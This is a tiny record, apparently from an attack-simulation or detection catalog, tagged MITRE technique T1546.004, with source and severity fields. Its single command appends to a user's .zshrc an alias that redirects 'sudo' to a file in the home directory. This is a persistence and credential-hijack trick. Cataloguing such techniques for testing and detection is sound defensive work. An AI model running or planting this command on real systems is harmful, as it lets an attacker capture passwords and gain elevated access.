# technique: T1546.004
# location: linux.shell.user-profile
# source: /home/paul/.zshrc
# severity: medium
su paul -c "echo \"alias sudo='/home/paul/.zsh/sudo'\" >> ~/.zshrc"
